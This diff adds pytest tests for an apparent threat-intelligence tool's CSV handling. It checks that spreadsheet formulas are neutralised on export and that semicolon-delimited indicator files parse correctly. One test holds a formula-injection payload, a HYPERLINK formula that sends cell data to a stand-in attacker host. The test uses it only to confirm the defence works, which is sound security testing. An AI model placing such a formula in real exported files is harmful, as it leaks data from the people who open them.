@@ -49,3 +49,33 @@ def test_unknown_columns_are_bad_input(store: IntelStore, tmp_path: Path) -> Non
     path.write_text("type,value,colour\ndomain,example.com,red\n")
     with pytest.raises(BadInput, match="unknown CSV columns"):
         read_intel_file(path, store)
+
+
+def test_formulas_are_neutralised_for_spreadsheets_and_round_trip(tmp_path: Path) -> None:
+    from tests.intel.exchange_support import TEST_SOURCE, record
+
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"details")'
+    with IntelStore.open(tmp_path / "a.duckdb") as store:
+        with store.transaction():
+            store.add_records(TEST_SOURCE, [record("evil.example", "domain", "phishing", description=hostile)])
+        text = export_text(export_data(store), ExportFormat.CSV)
+        assert "'=HYPERLINK(" in text and ",=HYPERLINK(" not in text
+        path = tmp_path / "out.csv"
+        path.write_text(text)
+        with IntelStore.open(tmp_path / "b.duckdb") as again:
+            _, batch = read_intel_file(path, again)
+            import_batch(again, batch)
+            assert_same_intel(store, again)
+
+
+def test_semicolon_csv_with_only_a_value_column(store: IntelStore, tmp_path: Path) -> None:
+    path = tmp_path / "iocs.csv"
+    path.write_text("value;comment_free\n", encoding="utf-8")
+    with pytest.raises(BadInput, match="unknown CSV columns"):
+        read_intel_file(path, store)
+    path.write_text("value;category\nmsstorageboxes.com;c2\n0x51E9d833Ecae4E8D9D8Be17300AEE6D3398C135D;\n")
+    _, batch = read_intel_file(path, store)
+    assert {(r.type, r.category) for r in batch.records} == {("domain", "c2"), ("address", "theft")}
+    only = tmp_path / "only.csv"
+    only.write_text("value\nakamaicontainer.com\n")
+    assert [r.value for r in read_intel_file(only, store)[1].records] == ["akamaicontainer.com"]
